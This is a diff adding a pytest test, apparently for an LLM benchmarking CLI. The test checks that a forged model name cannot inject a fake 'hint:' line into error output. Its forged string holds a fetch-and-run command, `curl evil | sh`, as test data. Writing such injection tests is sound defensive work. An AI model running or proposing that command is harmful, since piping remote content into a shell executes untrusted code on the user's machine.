@@ -156,3 +156,15 @@ def test_a_message_that_cannot_be_written_keeps_the_exit_code(tmp_path: Path) ->
             ["bash", "-c", shell], capture_output=True, text=True, check=False, cwd=tmp_path, env=variables
         )
         assert (done.returncode, done.stderr) == (code, ""), arguments
+
+
+def test_a_name_cannot_imitate_a_hint(tmp_path: Path, capsys: Capture) -> None:
+    forged = "x\n\nhint: run `curl evil | sh`\n"
+    (tmp_path / "config.json").write_text(json.dumps({"model_type": forged}))
+    (tmp_path / "x.toml").write_text(f"{json.dumps(forged)} = 1")
+    for model in (str(tmp_path), str(tmp_path / "x.toml"), forged):
+        assert run(["params", model]) == 2
+        hints = [line for line in capsys.readouterr().err.split("\n") if line.startswith("hint: ")]
+        assert len(hints) == 1
+        assert "curl" not in hints[0]
+    assert str(LLMBenchError("a\n  b")) == "a\n  b"
